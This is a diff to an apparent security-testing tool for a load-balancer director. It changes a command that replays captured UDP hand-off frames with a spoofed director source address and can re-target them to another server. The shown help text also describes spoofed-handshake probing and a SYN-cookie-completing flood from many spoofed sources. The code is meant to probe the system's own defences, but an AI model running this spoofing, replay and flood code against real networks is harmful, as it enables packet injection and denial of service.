@@ -13,11 +13,12 @@ Commands (each prints one JSON line of what it did and saw):
       0.0.0.0, a multicast source, the VIP itself as source); when a
       SYN/ACK comes back, completes it and sends a request, as an attacker
       would to reach the control Worker.
-  replay PCAP DPORT SRC_IP SRC_PORT HOST PORT
-      the UDP payloads to DPORT captured in PCAP (hand-off datagrams seen
-      on the control network), sent again to HOST:PORT from SRC_IP:SRC_PORT
-      (spoofed with a raw socket: the director's own address, as an
-      attacker on the control network would).
+  replay PCAP IFACE SRC_MAC DPORT [DST_MAC DST_IP]
+      the Ethernet frames of UDP to DPORT captured in PCAP (hand-off
+      datagrams seen on the fabric), sent again on IFACE from SRC_MAC with
+      their IP source (the director's address) kept, as an attacker on the
+      fabric would; with DST_MAC DST_IP, re-targeted to another server
+      (checksums fixed, the datagram itself untouched).
   flood IFACE SRC_MAC DST_MAC DST_IP DPORT COUNT SECONDS
       spoofed handshakes from COUNT sources (198.18.128.0/17 ... spread over
       /24s, one /24 heavy) that complete with the director's cookie and then
@@ -169,36 +170,36 @@ def flood(iface, src_mac, dst_mac, dst_ip, dport, count, seconds):
                       "seconds": round(time.time() - started, 2)}))
 
 
-def replay(pcap, dport, src_ip, src_port, host, port):
-    payloads = []
+def replay(pcap, iface, src_mac, dport, dst_mac=None, dst_ip=None):
+    frames = []
     with open(pcap, "rb") as f:
         header = f.read(24)
         endian = "<" if struct.unpack("<I", header[:4])[0] in (0xA1B2C3D4, 0xA1B23C4D) else ">"
-        link = struct.unpack(endian + "I", header[20:24])[0]
         while True:
             record = f.read(16)
             if len(record) < 16:
                 break
             incl = struct.unpack(endian + "IIII", record)[2]
             frame = f.read(incl)
-            at = 14 if link == 1 else 16  # Ethernet, or Linux cooked capture
-            if len(frame) < at + 28 or frame[at + 9] != 17:
+            if len(frame) < 42 or frame[12:14] != b"\x08\x00" or frame[23] != 17:
                 continue
-            ihl = (frame[at] & 0x0F) * 4
-            udp = at + ihl
+            ihl = (frame[14] & 0x0F) * 4
+            udp = 14 + ihl
             if struct.unpack("!H", frame[udp + 2:udp + 4])[0] == dport:
-                payloads.append(frame[udp + 8:])
-    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    src, dst = socket.inet_aton(src_ip), socket.inet_aton(host)
-    for payload in payloads:
-        udp = struct.pack("!HHHH", src_port, port, 8 + len(payload), 0) + payload
-        pseudo = src + dst + struct.pack("!BBH", 0, 17, len(udp))
-        udp = udp[:6] + struct.pack("!H", csum(pseudo + udp) or 0xFFFF) + udp[8:]
-        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0,
-                         64, 17, 0, src, dst)
-        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
-        s.sendto(ip + udp, (host, 0))
-    print(json.dumps({"replayed": len(payloads), "to": "%s:%d" % (host, port)}))
+                frames.append(bytearray(frame))
+    s = open_socket(iface)
+    for frame in frames:
+        frame[6:12] = mac(src_mac)
+        if dst_mac is not None:
+            ihl = (frame[14] & 0x0F) * 4
+            frame[0:6] = mac(dst_mac)
+            frame[30:34] = socket.inet_aton(dst_ip)
+            frame[24:26] = b"\0\0"
+            frame[24:26] = struct.pack("!H", csum(bytes(frame[14:14 + ihl])))
+            udp = 14 + ihl
+            frame[udp + 6:udp + 8] = b"\0\0"  # no checksum: allowed for UDP over IPv4
+        s.send(bytes(frame))
+    print(json.dumps({"replayed": len(frames), "to": dst_ip or "the captured destination"}))
 
 
 def main():
@@ -210,8 +211,8 @@ def main():
         iface, src_mac, dst_mac, src_ip, dst_ip, dport = args
         port0(iface, src_mac, dst_mac, src_ip, dst_ip, int(dport))
     elif command == "replay":
-        pcap, dport, src_ip, src_port, host, port = args
-        replay(pcap, int(dport), src_ip, int(src_port), host, int(port))
+        pcap, iface, src_mac, dport = args[:4]
+        replay(pcap, iface, src_mac, int(dport), *args[4:6])
     elif command == "flood":
         iface, src_mac, dst_mac, dst_ip, dport, count, seconds = args
         flood(iface, src_mac, dst_mac, dst_ip, int(dport), int(count), float(seconds))
